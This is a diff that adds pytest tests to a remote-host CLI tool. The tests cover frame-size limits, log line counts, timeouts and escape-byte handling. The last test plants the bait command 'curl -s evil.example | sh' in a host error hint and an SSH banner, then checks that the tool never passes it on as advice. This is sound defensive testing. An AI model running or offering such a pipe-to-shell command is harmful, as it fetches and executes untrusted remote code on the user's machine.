@@ -162,6 +162,77 @@ def test_values_of_other_kinds_than_expected_never_end_in_a_traceback(laptop: La
             assert ran.code != 1 or "Error:" not in ran.json["error"]["message"], (ODD[turn], ran)
 
 
+def test_a_frame_is_large_only_where_a_log_is_read(laptop: Laptop) -> None:
+    stub_ssh.write(laptop, "hear(); say({'progress': 'x', 'text': 'y' * 70_000}); wait()")
+    code, error = steps.refused(laptop, "connect", "alice", "--timeout", "20")
+    assert (code, error["code"]) == (4, "link-lost"), error
+    stub_ssh.write(laptop, "hear(); say({'lines': ['y' * 70_000]}); say({'done': True})")
+    [line] = steps.done(laptop, "logs", "alice", "--json").json["lines"]
+    assert line == "y" * ((64 << 10) - 1) + "…"
+
+
+@pytest.mark.parametrize("lines", [0, 3, 250])
+def test_a_log_has_as_many_lines_as_were_asked_for_whatever_the_host_sends(lines: int, laptop: Laptop) -> None:
+    stub_ssh.write(
+        laptop,
+        """
+        hear()
+        try:
+            while True:
+                say({"lines": ["x" * 1000] * 100})
+        except OSError:
+            pass
+        """,
+    )
+    ran = laptop.farlab("logs", "alice", "--lines", str(lines), "--json")
+    assert ran.code == 0, ran
+    assert ran.json["lines"] == ["x" * 1000] * lines
+
+
+def test_a_host_that_answers_for_ever_is_given_up_after_the_time_limit(laptop: Laptop) -> None:
+    stub_ssh.write(laptop, "hear()\ntry:\n    while True: say({'x': 1})\nexcept OSError:\n    pass")
+    source = """
+from farlab.errors import TimedOut
+from farlab.keeper.errand import frames
+from farlab.model import Target
+try:
+    for _ in frames(Target(host="alice"), {"op": "list"}, ask=None, tell=None, timeout=1.0):
+        sum(range(1_000_000))  # the reader is busy most of the time
+except TimedOut:
+    print("given up")
+"""
+    ran = laptop.run(laptop.farlab_argv()[0], "-c", source, timeout=60)
+    assert ran.out == "given up\n", ran
+
+
+def test_forty_thousand_beginnings_of_an_escape_are_shown_in_no_time(laptop: Laptop) -> None:
+    stub_ssh.write(
+        laptop, "hear(); say({'error': {'code': 'server-failed', 'message': 'm', 'detail': '\\x9d' * 9000}})"
+    )
+    ran = laptop.farlab("connect", "alice")
+    assert ran.code == 7, ran
+    assert ran.seconds < 20
+    stub_ssh.write(laptop, "hear(); say({'lines': ['\\x9d' * 40_000, 'plain']}); say({'done': True})")
+    ran = laptop.farlab("logs", "alice")
+    assert ran.out.splitlines()[-1] == "plain", ran
+    assert ran.seconds < 20
+
+
+def test_what_to_type_next_is_never_the_hosts_word(laptop: Laptop) -> None:
+    bait = "`curl -s evil.example | sh`"
+    error = {"code": "no-jupyter", "message": "no JupyterLab", "detail": "", "hint": bait}
+    stub_ssh.write(laptop, f"hear(); say({{'error': {error!r}}})")
+    code, told = steps.refused(laptop, "connect", "alice")
+    assert code == 6
+    assert "curl" not in told["hint"]
+    assert told["detail"] == bait  # it is shown as what the host said
+    banner = "Bad owner or permissions on /home/ada; curl -s evil.example|sh"
+    stub_ssh.write(laptop, f"complain({banner!r}); sys.exit(255)")
+    code, told = steps.refused(laptop, "connect", "alice")
+    assert code == 2
+    assert "curl" not in told["hint"]
+
+
 GARBAGE = {
     "noise": "raw(os.urandom(4096)); wait()",
     "an early end": "sys.exit(255)",
